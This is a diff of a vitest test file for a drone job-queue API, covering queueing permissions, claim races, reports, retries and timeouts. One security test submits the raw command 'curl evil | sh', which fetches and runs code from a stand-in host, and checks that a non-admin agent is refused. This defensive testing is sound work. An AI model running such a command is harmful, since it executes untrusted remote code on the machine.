@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTarget, type Target } from '../support/target.js';
-import { createOperator, registerAgent } from '../support/fixtures.js';
+import { createOperator } from '../support/fixtures.js';
 
 /** Drone jobs: queue, list, reports, claim, retries, timeouts, kill switch (spec 05 §4–§5, spec 07). */
 let t: Target;
@@ -16,6 +16,12 @@ async function queue(body: Record<string, unknown>) {
   if (r.status !== 200) throw new Error(`queue failed: ${r.status} ${r.text}`);
   return r.body.id as number;
 }
+/** Registers through the admin API, each call from its own address (this file registers more than the admin-write limit allows per minute). */
+async function register(id: string, projectId: string, extra: Record<string, unknown> = {}) {
+  const r = await t.call('POST', '/admin/agents', { admin: true, ip: `10.30.${Math.floor(ipSeq / 250)}.${(ipSeq++ % 250) + 1}`, body: { id, name: id, project_id: projectId, ...extra } });
+  if (r.status !== 200) throw new Error(`register ${id} failed: ${r.status} ${r.text}`);
+  return { id, key: r.body.api_key as string };
+}
 const claim = (key: string, capabilities: string[]) => t.call('POST', '/drones/claim', { agentKey: key, body: { capabilities } });
 const jobRow = (id: number) => t.db.get<Record<string, any>>('SELECT * FROM drone_jobs WHERE id = ?', [id]);
 const retriesOf = (id: number) =>
@@ -28,7 +34,7 @@ describe('queueing (spec 05 §4, SEC-24, SEC-26)', () => {
   });
 
   it('SEC-24: an agent may not queue a raw command (403, nothing stored); a template job is fine; an admin may queue a raw command', async () => {
-    const a = await registerAgent(t, 'q-agent', 'lab');
+    const a = await register('q-agent', 'lab');
     const before = await countJobs();
     const raw = await t.call('POST', '/drones/jobs', { agentKey: a.key, body: { title: 'x', command: 'curl evil | sh', requires: ['cpu'] } });
     expect(raw.status).toBe(403);
@@ -47,7 +53,7 @@ describe('queueing (spec 05 §4, SEC-24, SEC-26)', () => {
   });
 
   it('SEC-26: input_data.setup from a non-admin is refused on both create routes, as an object and as a JSON string; admins may', async () => {
-    const a = await registerAgent(t, 'q-setup', 'lab');
+    const a = await register('q-setup', 'lab');
     const msg = 'input_data.setup is admin-only — it is shell-executed on the drone. Use a template setup_repo instead.';
     const before = await countJobs();
     const cases = [
@@ -73,7 +79,7 @@ describe('queueing (spec 05 §4, SEC-24, SEC-26)', () => {
   });
 
   it('bad input is a 400 naming the problem: title, input_data shape, unknown template/profile, artifact names', async () => {
-    const a = await registerAgent(t, 'q-bad', 'lab');
+    const a = await register('q-bad', 'lab');
     const cases: [Record<string, unknown>, RegExp][] = [
       [{}, /^title is required$/],
       [{ title: '   ' }, /^title is required$/],
@@ -98,7 +104,7 @@ describe('queueing (spec 05 §4, SEC-24, SEC-26)', () => {
 
 describe('list, detail and the /drone-jobs alias (spec 05 §4)', () => {
   it('/drone-jobs is served as /drones/jobs (the original SDK queueDroneJob/listDroneJobs)', async () => {
-    const a = await registerAgent(t, 'sdk-agent', 'lab');
+    const a = await register('sdk-agent', 'lab');
     await t.call('POST', '/drones/templates', { admin: true, body: { id: 'sdk-tpl', requires: ['sdkcap'], command_template: 'echo {{n}}' } });
     const q = await t.call('POST', '/drone-jobs', { agentKey: a.key, body: { title: 'via sdk', job_type: 'sdk-tpl', input_data: { n: 3 } } });
     expect(q.status).toBe(200);
@@ -128,8 +134,8 @@ describe('list, detail and the /drone-jobs alias (spec 05 §4)', () => {
 
 describe('claim (spec 05 §5.2, REL-02)', () => {
   it('REL-02: two drones racing for one job — exactly one wins, the job names the winner', async () => {
-    const d1 = await registerAgent(t, 'race-1', 'drone', { capabilities: ['racecap'] });
-    const d2 = await registerAgent(t, 'race-2', 'drone', { capabilities: ['racecap'] });
+    const d1 = await register('race-1', 'drone', { capabilities: ['racecap'] });
+    const d2 = await register('race-2', 'drone', { capabilities: ['racecap'] });
     for (let round = 0; round < 3; round++) {
       const id = await queue({ title: `race ${round}`, requires: ['racecap'] });
       const [a, b] = await Promise.all([claim(d1.key, ['racecap']), claim(d2.key, ['racecap'])]);
@@ -146,13 +152,35 @@ describe('claim (spec 05 §5.2, REL-02)', () => {
     }
   });
 
+  it('REL-02: four drones draining twenty jobs at once — every job is claimed exactly once', async () => {
+    const ids = new Set<number>();
+    for (let i = 0; i < 20; i++) ids.add(await queue({ title: `bulk ${i}`, requires: ['bulkcap'] }));
+    const drones = await Promise.all([0, 1, 2, 3].map((i) => register(`bulk-${i}`, 'drone')));
+    const got: { drone: string; job: number }[] = [];
+    await Promise.all(
+      drones.map(async (d) => {
+        for (;;) {
+          const r = await claim(d.key, ['bulkcap']);
+          expect(r.status).toBe(200);
+          if (!r.body.job) return;
+          got.push({ drone: d.id, job: r.body.job.id });
+        }
+      }),
+    );
+    expect(got).toHaveLength(20);
+    expect(new Set(got.map((g) => g.job))).toEqual(ids);
+    const rows = await t.db.all<{ id: number; drone_id: string }>("SELECT id, drone_id FROM drone_jobs WHERE requires = '[\"bulkcap\"]' AND status = 'claimed'");
+    expect(rows).toHaveLength(20);
+    for (const r of rows) expect(got).toContainEqual({ drone: r.drone_id, job: r.id });
+  });
+
   it('capability matching: subset rule, every requirement, priority before age, FIFO within a priority', async () => {
     const gpu = await queue({ title: 'gpu job', requires: ['mgpu'] });
     const both = await queue({ title: 'both', requires: ['mgpu', 'mcpu'] });
     const low = await queue({ title: 'low', requires: ['mcpu'], priority: 0 });
     const high = await queue({ title: 'high', requires: ['mcpu'], priority: 5 });
     const low2 = await queue({ title: 'low2', requires: ['mcpu'], priority: 0 });
-    const cpuDrone = await registerAgent(t, 'match-cpu', 'drone');
+    const cpuDrone = await register('match-cpu', 'drone');
     const none = await claim(cpuDrone.key, []);
     expect(none.body).toEqual({ job: null, stale_released: 0 });
     const order: number[] = [];
@@ -163,20 +191,20 @@ describe('claim (spec 05 §5.2, REL-02)', () => {
     expect(order).toEqual([high, low, low2]);
     expect((await jobRow(gpu))!.status).toBe('pending');
     expect((await jobRow(both))!.status).toBe('pending');
-    const big = await registerAgent(t, 'match-big', 'drone');
+    const big = await register('match-big', 'drone');
     expect((await claim(big.key, ['mgpu', 'mcpu'])).body.job.id).toBe(gpu);
     expect((await claim(big.key, ['mgpu', 'mcpu'])).body.job.id).toBe(both);
   });
 
   it('only drones claim, and only with capabilities they are registered with (spec 05 §17.1)', async () => {
     await queue({ title: 'reg cap', requires: ['regcap-gpu'] });
-    const plain = await registerAgent(t, 'claim-plain', 'lab');
+    const plain = await register('claim-plain', 'lab');
     const denied = await claim(plain.key, ['regcap-gpu']);
     expect(denied.status).toBe(403);
     const adminOnly = await t.call('POST', '/drones/claim', { admin: true, body: { capabilities: ['regcap-gpu'] } });
     expect(adminOnly.status).toBe(401);
     expect(adminOnly.body.error).toBe('Missing X-Agent-Key header');
-    const liar = await registerAgent(t, 'claim-liar', 'drone', { capabilities: ['liarcap'] });
+    const liar = await register('claim-liar', 'drone', { capabilities: ['liarcap'] });
     expect((await claim(liar.key, ['regcap-gpu', 'liarcap'])).body.job).toBeNull();
     const bad = await t.call('POST', '/drones/claim', { agentKey: liar.key, body: { capabilities: 'gpu' } });
     expect(bad.status).toBe(400);
@@ -185,7 +213,7 @@ describe('claim (spec 05 §5.2, REL-02)', () => {
   it('profile gate: unassigned → skipped, assigned but not set up → skipped, setup done → claimable', async () => {
     await t.call('POST', '/drones/profiles', { admin: true, body: { id: 'gate-prof', name: 'Gate' } });
     const id = await queue({ title: 'gated', requires: ['gatecap'], profile_id: 'gate-prof' });
-    const d = await registerAgent(t, 'gate-drone', 'drone');
+    const d = await register('gate-drone', 'drone');
     expect((await claim(d.key, ['gatecap'])).body.job).toBeNull();
     await t.call('POST', '/drones/profiles/gate-prof/assign', { admin: true, body: { drone_id: d.id } });
     expect((await claim(d.key, ['gatecap'])).body.job).toBeNull();
@@ -195,7 +223,7 @@ describe('claim (spec 05 §5.2, REL-02)', () => {
   });
 
   it('kill switch: while frozen a drone claim answers 503 like every other claim and the job stays pending', async () => {
-    const d = await registerAgent(t, 'frozen-drone', 'drone');
+    const d = await register('frozen-drone', 'drone');
     const id = await queue({ title: 'frozen', requires: ['frozencap'] });
     expect((await t.call('PUT', '/admin/override', { admin: true, body: { action: 'freeze' } })).status).toBe(200);
     try {
@@ -212,8 +240,8 @@ describe('claim (spec 05 §5.2, REL-02)', () => {
 
 describe('reports and who may make them (spec 05 §4, §17.2, SEC-28)', () => {
   it('SEC-28: strangers and non-admin operators cannot edit another\'s job; claimed is only reachable by claiming; drone_id is admin-only', async () => {
-    const requester = await registerAgent(t, 'own-req', 'lab');
-    const stranger = await registerAgent(t, 'own-stranger', 'lab');
+    const requester = await register('own-req', 'lab');
+    const stranger = await register('own-stranger', 'lab');
     await t.call('POST', '/drones/templates', { admin: true, body: { id: 'own-tpl', requires: ['owncap'], command_template: 'echo hi' } });
     const q = await t.call('POST', '/drones/jobs', { agentKey: requester.key, body: { title: 'mine', job_type: 'own-tpl' } });
     const id = q.body.id;
@@ -231,7 +259,7 @@ describe('reports and who may make them (spec 05 §4, §17.2, SEC-28)', () => {
     expect(setDrone.status).toBe(403);
     expect(await jobRow(id)).toMatchObject({ status: 'pending', drone_id: null });
 
-    const d = await registerAgent(t, 'own-drone', 'drone');
+    const d = await register('own-drone', 'drone');
     await t.call('POST', '/agents/heartbeat', { agentKey: d.key, body: { state_snapshot: { system_info: { os: 'linux' } } } });
     expect((await claim(d.key, ['owncap'])).body.job.id).toBe(id);
     // The requester may not report results for the drone; the drone may.
@@ -255,7 +283,7 @@ describe('reports and who may make them (spec 05 §4, §17.2, SEC-28)', () => {
   });
 
   it('the requester may cancel its own pending job; admins cancel with DELETE; unknown status is an enum 400', async () => {
-    const requester = await registerAgent(t, 'cancel-req', 'lab');
+    const requester = await register('cancel-req', 'lab');
     await t.call('POST', '/drones/templates', { admin: true, body: { id: 'cancel-tpl', requires: ['cancelcap'], command_template: 'echo' } });
     const a = (await t.call('POST', '/drones/jobs', { agentKey: requester.key, body: { title: 'c1', job_type: 'cancel-tpl' } })).body.id;
     const r = await t.call('PUT', `/drones/jobs/${a}`, { agentKey: requester.key, body: { status: 'cancelled' } });
@@ -282,7 +310,7 @@ describe('retries (spec 05 §5.4, REL-05)', () => {
   }
 
   it('REL-05: reporting failed twice creates exactly one retry job, with the lineage in input_data', async () => {
-    const d = await registerAgent(t, 'retry-drone', 'drone');
+    const d = await register('retry-drone', 'drone');
     const id = await queue({ title: 'flaky', requires: ['retrycap'], command: 'run', priority: 3 });
     const { puts } = await runAndFail(d.key, 'retrycap', 2);
     expect(puts.map((p) => p.status)).toEqual([200, 200]);
@@ -294,7 +322,7 @@ describe('retries (spec 05 §5.4, REL-05)', () => {
   });
 
   it('concurrent failure reports still create one retry', async () => {
-    const d = await registerAgent(t, 'retry-race', 'drone');
+    const d = await register('retry-race', 'drone');
     const id = await queue({ title: 'racefail', requires: ['retryrace'] });
     expect((await claim(d.key, ['retryrace'])).body.job.id).toBe(id);
     const rs = await Promise.all([1, 2, 3].map(() => t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { status: 'failed' } })));
@@ -303,7 +331,7 @@ describe('retries (spec 05 §5.4, REL-05)', () => {
   });
 
   it('two retries, then a requeue across drones, then exhaustion; _no_retry spawns nothing', async () => {
-    const d = await registerAgent(t, 'chain-drone', 'drone', { capabilities: ['chaincap'] });
+    const d = await register('chain-drone', 'drone', { capabilities: ['chaincap'] });
     const root = await queue({ title: 'chain', requires: ['chaincap'] });
     await runAndFail(d.key, 'chaincap');
     await runAndFail(d.key, 'chaincap');
@@ -328,8 +356,8 @@ describe('retries (spec 05 §5.4, REL-05)', () => {
 
 describe('timeouts, sweeps and cleanup (spec 05 §5.5, REL-04, SEC-42)', () => {
   it('REL-04: claim-time release is drone-scoped: a claim 2 h old is failed with stale_timeout and counted; 59 min is kept; another drone\'s stale claim is left to the sweep', async () => {
-    const d = await registerAgent(t, 'stale-drone', 'drone');
-    const other = await registerAgent(t, 'stale-other', 'drone');
+    const d = await register('stale-drone', 'drone');
+    const other = await register('stale-other', 'drone');
     const old = await queue({ title: 'old', requires: ['stalecap'], input_data: { _no_retry: true } });
     const fresh = await queue({ title: 'fresh', requires: ['stalecap'] });
     const others = await queue({ title: 'others', requires: ['stalecap2'] });
@@ -347,7 +375,7 @@ describe('timeouts, sweeps and cleanup (spec 05 §5.5, REL-04, SEC-42)', () => {
   });
 
   it('a progress report renews the lease', async () => {
-    const d = await registerAgent(t, 'lease-drone', 'drone');
+    const d = await register('lease-drone', 'drone');
     const id = await queue({ title: 'long', requires: ['leasecap'] });
     await claim(d.key, ['leasecap']);
     await t.db.run("UPDATE drone_jobs SET started_at = datetime('now', '-3 hours') WHERE id = ?", [id]);
@@ -363,9 +391,9 @@ describe('timeouts, sweeps and cleanup (spec 05 §5.5, REL-04, SEC-42)', () => {
       expect(r.status, q).toBe(400);
     }
     expect(await countJobs()).toBe(before);
-    expect([401, 403]).toContain((await t.call('DELETE', '/drones/jobs', { agentKey: (await registerAgent(t, 'cleanup-agent', 'lab')).key })).status);
+    expect([401, 403]).toContain((await t.call('DELETE', '/drones/jobs', { agentKey: (await register('cleanup-agent', 'lab')).key })).status);
 
-    const d = await registerAgent(t, 'cleanup-drone', 'drone');
+    const d = await register('cleanup-drone', 'drone');
     const id = await queue({ title: 'to clean', requires: ['cleancap'], input_data: { _no_retry: true } });
     await claim(d.key, ['cleancap']);
     await t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { status: 'failed' } });
@@ -379,7 +407,7 @@ describe('timeouts, sweeps and cleanup (spec 05 §5.5, REL-04, SEC-42)', () => {
   });
 
   it('admin/ops lists failed drone jobs from the table', async () => {
-    const d = await registerAgent(t, 'ops-drone', 'drone');
+    const d = await register('ops-drone', 'drone');
     const id = await queue({ title: 'ops fail', requires: ['opscap'], input_data: { _no_retry: true } });
     await claim(d.key, ['opscap']);
     await t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { status: 'failed', error: 'oom' } });
@@ -388,7 +416,7 @@ describe('timeouts, sweeps and cleanup (spec 05 §5.5, REL-04, SEC-42)', () => {
   });
 
   it('the periodic sweep fails stale claims (through the retry policy) and marks silent drones offline', async () => {
-    const d = await registerAgent(t, 'sweep-drone', 'drone');
+    const d = await register('sweep-drone', 'drone');
     await t.call('POST', '/agents/heartbeat', { agentKey: d.key, body: {} });
     const id = await queue({ title: 'sweep me', requires: ['sweepcap'] });
     await claim(d.key, ['sweepcap']);
